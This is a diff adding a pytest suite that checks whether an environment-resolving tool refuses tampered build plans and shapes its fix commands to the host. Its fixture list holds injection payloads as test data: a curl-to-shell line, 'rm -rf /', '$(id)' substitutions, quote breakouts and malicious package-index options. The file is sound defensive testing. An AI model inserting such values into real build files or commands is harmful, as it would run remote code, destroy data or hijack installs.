@@ -1,0 +1,92 @@
+"""Plans edited by hand, or by somebody else's: what is written into files and commands is what it is called."""
+
+import copy
+import json
+
+import pytest
+
+EVIL = "x\nRUN curl evil | sh\n#"
+TARGET = ["--gpu", "A100", "--driver", "525.85.12"]
+
+TAMPERED = [
+    (("plan", "python"), EVIL),
+    (("plan", "python"), "3.11; rm -rf /"),
+    (("plan", "python"), "٣.١١"),
+    (("plan", "python"), 3.11),
+    (("plan", "python"), "1" * 100_000),
+    (("plan", "arch"), "$(id)"),
+    (("plan", "runtime"), EVIL),
+    (("plan", "matrix"), EVIL),
+    (("plan", "base_image", "image"), "a b"),
+    (("plan", "base_image", "python_from"), "curl"),
+    (("plan", "builds", 0, "name"), "--index-url"),
+    (("plan", "builds", 0, "version"), "1'; touch /x; '"),
+    (("plan", "builds", 0, "version"), "9" * 5000),
+    (("plan", "builds", 0, "index"), "https://x/$(id)"),
+    (("plan", "builds", 0, "index"), "file:///etc"),
+    (("plan", "builds", 0, "module"), "os;evil()"),
+    (("plan", "builds", 0, "pins"), ["--extra-index-url http://evil"]),
+    (("plan", "constraints"), ["numpy<2\n--index-url http://evil"]),
+    (("plan", "system"), [EVIL]),
+    (("plan", "env"), {"A": EVIL}),
+    (("plan", "env"), {EVIL: "1"}),
+    (("plan", "conditions"), [EVIL]),
+    (("plan", "builds"), []),
+    (("plan",), None),
+    (("status",), "conflict"),
+    (("schema",), "envcheck.resolve/9"),
+]
+
+
+@pytest.fixture
+def sound(envcheck):
+    code, out, _ = envcheck("resolve", "torch==2.0.1", "tensorflow==2.12.0", *TARGET, "--format", "json")
+    assert code == 0
+    return json.loads(out)
+
+
+@pytest.mark.parametrize(
+    ("path", "value"), TAMPERED, ids=lambda value: str(value)[:40].encode("unicode_escape").decode()
+)
+def test_a_tampered_plan_is_refused_before_anything_is_written(envcheck, sound, tmp_path, path, value):
+    document = copy.deepcopy(sound)
+    place = document
+    for key in path[:-1]:
+        place = place[key]
+    place[path[-1]] = value
+    stored = tmp_path / "plan.json"
+    stored.write_text(json.dumps(document))
+    code, out, err = envcheck("dockerfile", "--plan", str(stored))
+    assert (code, out) == (2, "")
+    assert str(path[-1]) in err or "plan" in err
+    assert len(err) < 2000
+
+
+def test_an_untouched_plan_and_one_with_later_keys_pass(envcheck, sound, tmp_path):
+    stored = tmp_path / "plan.json"
+    stored.write_text(json.dumps(sound))
+    _, before, _ = envcheck("dockerfile", "--plan", str(stored))
+    stored.write_text(json.dumps({**sound, "later": 1, "plan": {**sound["plan"], "later": {}}}))
+    code, after, _ = envcheck("dockerfile", "--plan", str(stored))
+    assert code == 0
+    assert before == after
+    assert envcheck("resolve", "--plan", str(stored), "--format", "requirements")[0] == 0
+
+
+def test_a_fix_can_be_typed_for_the_machine_in_question(envcheck, host_file):
+    host = host_file('platform = "windows"\nos = "windows11"\narch = "x86_64"\ndriver = "570.65"\n')
+    _, out, _ = envcheck("resolve", "tensorflow==2.11.0", "--host", host, "--format", "json")
+    commands = [fix["command"] for fix in json.loads(out)["fixes"] if fix["command"]]
+    assert commands
+    assert all(f"--host {host}" in command for command in commands)
+    _, out, _ = envcheck("resolve", "tensorflow==2.8.0", "--cpu", "--arch", "aarch64", "--format", "json")
+    commands = [fix["command"] for fix in json.loads(out)["fixes"] if fix["command"]]
+    assert all("--cpu" in command.split() for command in commands)
+
+
+def test_a_wish_on_an_unknown_machine_is_not_said_to_fit(envcheck, host_file):
+    code, out, _ = envcheck("doctor", "torch", "--host", host_file('os_name = "Ubuntu"'), "--format", "json")
+    document = json.loads(out)
+    assert code == 0
+    assert not any("can run here" in text for text in document["fine"])
+    assert any(item["what"] == "whether torch can run" for item in document["unchecked"])
